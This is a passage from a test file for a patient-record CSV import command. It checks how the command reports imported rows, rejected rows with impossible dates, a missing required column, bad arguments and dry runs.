    const dir = await fs.mkdtemp(path.join(os.tmpdir(), 'import-patients-'));
    try {
      const good = path.join(dir, 'good.csv');
      const bad = path.join(dir, 'bad.csv');
      const noSex = path.join(dir, 'no-sex.csv');
      const rejects = path.join(dir, 'rejects.csv');
      await fs.writeFile(good, csv(HEADER, row(1), row(2)));
      await fs.writeFile(bad, csv(HEADER, ...Array.from({ length: 120 }, (_, i) => row(i + 10, { date_of_birth: '2023-02-30' }))));
      const columns = COLUMNS.filter((column) => column !== 'sex');
      await fs.writeFile(noSex, csv(columns.join(','), row(3, {}, columns)));

      const [imported, rejected, refused, usage, badTime] = await Promise.all([
        runCli(good),
        runCli(bad, '--rejects', rejects),
        runCli(noSex),
        runCli(),
        runCli(good, '--extracted-at', 'yesterday'),
      ]);
      const again = await runCli(good, '--dry-run');

      expect(imported.code).toBe(0);
      expect(imported.stdout).toMatch(/good\.csv: imported\n {2}read +2\n {2}valid +2\n {2}rejected +0\n {2}imported +2\n {2}conflicts +0\n {2}seconds +\d/);
      expect(again.code).toBe(0);
      expect(again.stdout).toContain('dry run: nothing was written; every row can be imported');
      expect(again.stdout).toMatch(/imported +0/);

      expect(rejected.code).toBe(1);
      expect(rejected.stdout).toContain('nothing was written: 120 rows rejected');
      const listed = rejected.stderr.split('\n').filter((line) => line.startsWith('line '));
      expect(listed).toHaveLength(100);
      expect(listed[0]).toBe('line 2: date_of_birth: is not a real calendar date');
      expect(rejected.stderr).toContain(`… and 20 more rejected rows (all rejects are in ${rejects})`);
      const rejectsCsv = (await fs.readFile(rejects, 'utf8')).trimEnd().split('\r\n');
      expect(rejectsCsv).toHaveLength(121);
      expect(rejectsCsv[0]).toBe('"line","mrn","reason"');
      expect(rejectsCsv[1]).toBe(`"2","${mrn(10)}","date_of_birth: is not a real calendar date"`);

      expect(refused.code).toBe(2);
      expect(refused.stderr).toContain('missing required column(s): sex');
      expect(usage.code).toBe(2);
      expect(usage.stderr).toContain('Usage: npm run import:patients -- FILE.csv');
      expect(badTime.code).toBe(2);
      expect(badTime.stderr).toContain('--extracted-at must be an ISO 8601 date-time with its offset');
      expect(await storedCount()).toBe(2);
    } finally {
      await fs.rm(dir, { recursive: true, force: true });
    }
  });
});
